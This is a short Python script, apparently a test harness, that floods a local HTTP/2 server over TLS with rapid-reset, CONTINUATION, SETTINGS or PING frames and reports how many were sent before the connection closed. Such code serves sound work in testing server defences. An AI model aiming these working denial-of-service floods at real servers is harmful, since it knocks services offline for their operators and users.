# Floods a server with frames of HTTP/2: ROOT PORT KIND. Prints how many frames were sent before the server ended the
# connection, or all of them.
import socket
import ssl
import sys

root, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# GET https://localhost/ in HPACK's static table (RFC 7541, appendix A).
GET = b"\x82\x87\x84\x41\x09localhost"


def frame(type, flags, stream, body=b""):
    return len(body).to_bytes(3, "big") + bytes([type, flags]) + stream.to_bytes(4, "big") + body


def frames():
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
    if kind == "continuation":
        yield frame(HEADERS, END_STREAM, 1, GET)
    for number in range(20_000):
        if kind == "reset":
            stream = 2 * number + 1
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, bytes(4))
        elif kind == "continuation":
            yield frame(CONTINUATION, 0, 1, b"\x00\x01x" + b"\x7f\x81\x01" + b"y" * 256)
        elif kind == "settings":
            yield frame(SETTINGS, 0, 0)
        else:
            yield frame(PING, 0, 0, bytes(8))


context = ssl.create_default_context(cafile=root)
context.set_alpn_protocols(["h2"])
stream = context.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="localhost")
stream.settimeout(5)
sent = 0
try:
    for bytes_ in frames():
        stream.sendall(bytes_)
        sent += 1
except OSError:
    pass
print(sent)
